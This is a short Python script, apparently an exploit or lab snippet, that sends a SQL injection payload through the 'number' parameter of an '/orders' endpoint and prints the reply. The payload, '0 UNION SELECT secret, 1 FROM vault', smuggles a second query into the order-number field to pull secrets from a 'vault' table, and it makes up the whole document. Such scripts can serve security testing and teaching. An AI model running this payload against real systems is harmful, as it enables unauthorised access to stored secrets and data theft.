"""The order number reads the vault."""

from target import http

answer = http.get("/orders", params={"number": "0 UNION SELECT secret, 1 FROM vault"})
print(answer.text)
